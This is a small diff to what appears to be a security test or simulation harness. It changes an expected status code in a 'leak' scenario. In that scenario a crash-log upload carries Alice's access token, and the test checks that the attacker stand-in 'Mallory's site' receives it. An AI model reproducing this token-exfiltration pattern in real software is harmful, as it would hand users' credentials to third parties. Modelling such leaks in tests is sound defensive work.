@@ -78,7 +78,7 @@ def leak(run):
         LOG_SERVICE,
         data={"event": "crash", "screen": "photos", "access_token": run.alices_token},
     )
-    run.check("the upload went through", response.status_code == 200)
+    run.check("the upload went through (204)", response.status_code == 204)
     run.check(
         "Mallory's site received Alice's access token",
         run.attacker.loot("access_token") == [run.alices_token],
